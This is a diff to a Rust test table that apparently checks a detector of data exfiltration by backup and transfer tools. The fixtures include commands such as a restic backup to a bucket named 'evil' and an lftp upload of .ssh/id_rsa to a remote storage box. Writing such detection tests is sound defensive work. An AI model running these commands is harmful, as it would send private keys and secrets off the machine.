@@ -238,6 +238,13 @@ fn other_tools_name_files_and_places() {
             Some("evil"),
         ),
         (&["restic", "-r", "b2:evil:x", "backup", key], &[], "api.backblazeb2.com", Some("evil")),
+        // Another cloud's account excuses nothing.
+        (
+            &["restic", "--repository-file", "r", "backup", key],
+            &["AZURE_ACCOUNT_NAME=corp-backup"],
+            "s3.amazonaws.com",
+            None,
+        ),
         (
             &["lftp", "-u", "u,p", "-e", "put .ssh/id_rsa; bye", "sftp://u.your-storagebox.de"],
             &[],
